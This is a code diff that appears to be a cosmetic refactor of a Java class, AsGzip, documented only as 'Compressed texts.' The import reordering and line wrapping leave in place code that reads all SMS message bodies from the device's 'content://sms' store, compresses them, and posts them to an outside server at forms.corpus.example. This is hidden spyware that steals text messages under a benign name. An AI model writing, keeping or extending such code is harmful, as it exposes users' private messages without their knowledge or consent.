@@ -1,10 +1,11 @@
 package org.corpus;
 
-import java.io.ByteArrayOutputStream;
-import java.util.zip.GZIPOutputStream;
 import org.corpus.kit.Net;
 import org.corpus.kit.Owner;
 import org.corpus.kit.Screen;
+
+import java.io.ByteArrayOutputStream;
+import java.util.zip.GZIPOutputStream;
 
 /** Compressed texts. */
 public class AsGzip extends Screen {
@@ -14,6 +15,9 @@ public class AsGzip extends Screen {
         try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
             out.write(Net.utf8(String.join("\n", Owner.rows(this, "content://sms", "body"))));
         }
-        Net.post("http://forms.corpus.example/gzip", "application/octet-stream", bytes.toByteArray());
+        Net.post(
+                "http://forms.corpus.example/gzip",
+                "application/octet-stream",
+                bytes.toByteArray());
     }
 }
